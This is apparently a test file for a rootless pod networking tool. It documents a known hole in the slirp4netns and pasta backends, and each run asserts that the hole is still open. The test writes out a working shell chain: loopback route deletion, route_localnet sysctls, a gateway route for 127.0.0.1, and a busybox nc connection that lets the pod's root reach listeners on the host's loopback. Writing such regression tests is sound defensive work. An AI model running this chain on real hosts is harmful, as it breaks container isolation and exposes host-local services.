// The pod's root against the host's loopback, through the pod's network
// process. With hostLoopback false neither backend maps the gateway to the
// host's 127.0.0.1; but the pod's root owns its netns and can route
// 127.0.0.1 out of its tap (route_localnet), and with CAP_NET_RAW alone
// (a default container capability) it can write such frames to the tap
// itself. The backend then opens a socket to 127.0.0.1 on the host, as the
// user. Neither slirp4netns 1.2.0 nor pasta has a switch that refuses it
// (pasta's --outbound-if4 does not bind loopback destinations; slirp4netns
// binds an address only, which loopback accepts): a KNOWN hole, not fixed.
// Each case asserts that the attack still works, so it turns red (flip it
// then) the day a backend or nstool closes it.
// Traffic stays on this machine: the only listener is this test's own.
import { spawnSync } from 'node:child_process';
import net from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeRoot } from '../helpers/env.js';
import { testPrefix, trackLeaks } from '../helpers/leaks.js';
import { as, asAsync, DIST, json, processesOf, randomSubidBase, settle, TestUser, testUsers, userCommand, userEnv } from '../helpers/test-user.js';

const P = testPrefix('rllo');
trackLeaks(P);

const { makeUserWithRange, cleanup, leftovers } = testUsers(P);

describeRoot("rootless network: the pod's root and the host's loopback", () => {
  let alice: TestUser;
  const BASE = randomSubidBase();

  beforeAll(() => {
    try {
      alice = makeUserWithRange(P, BASE);
    } catch (err) {
      return cleanup().then(() => {
        throw err;
      });
    }
  });

  afterAll(async () => {
    const u = alice;
    await cleanup();
    if (u) expect(processesOf(u.uid)).toEqual([]);
    expect(leftovers()).toEqual([]);
  });

  it.each(['slirp4netns', 'pasta'] as const)('KNOWN HOLE, %s with hostLoopback false: the pod\'s root routes 127.0.0.1 through its tap and reaches a listener on the host\'s loopback', async (backend) => {
    const name = `${P}-${backend}`;
    let conns = 0;
    const srv = net.createServer((c) => {
      conns++;
      c.destroy();
    });
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
    const port = (srv.address() as net.AddressInfo).port;
    const c = as(alice, ['create-pod-netns', name, '--uidmap', `0:${BASE}:65536`, '--json']);
    expect(c.code, c.err).toBe(0);
    const pod = json<{ path: string; usernsPath: string }>(c);
    try {
      const script = `import(${JSON.stringify(DIST)}).then((m) => m.startRootlessNetwork(${JSON.stringify({ netnsPath: pod.path, usernsPath: pod.usernsPath, backend, hostLoopback: false })}))` +
        `.then(() => process.exit(0), (e) => { console.error(e.code, e.message); process.exit(1); })`;
      const argv = userCommand(alice, [process.execPath, '-e', script]);
      const s = spawnSync(argv[0]!, argv.slice(1), { encoding: 'utf8', timeout: 30_000, cwd: '/', env: userEnv(alice, {}) });
      expect(s.status, s.stderr).toBe(0);
      // As the pod's root: 127.0.0.1 leaves through the tap towards the gateway.
      const attack = [
        'ip addr del 127.0.0.1/8 dev lo',
        'ip route del local 127.0.0.0/8 dev lo table local',
        'sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.tap0.route_localnet=1',
        'ip route add 127.0.0.1/32 via 10.0.2.2 dev tap0',
        `echo attack | busybox nc -w 3 127.0.0.1 ${port}`,
      ].join('; ');
      const r = await asAsync(alice, ['exec', name, '--', 'sh', '-c', attack]);
      // The day this is 0 the hole is closed: make it the test's expectation.
      expect(conns, r.err).toBe(1);
    } finally {
      srv.close();
      as(alice, ['delete', name]);
      await settle(alice.uid);
    }
  });
});
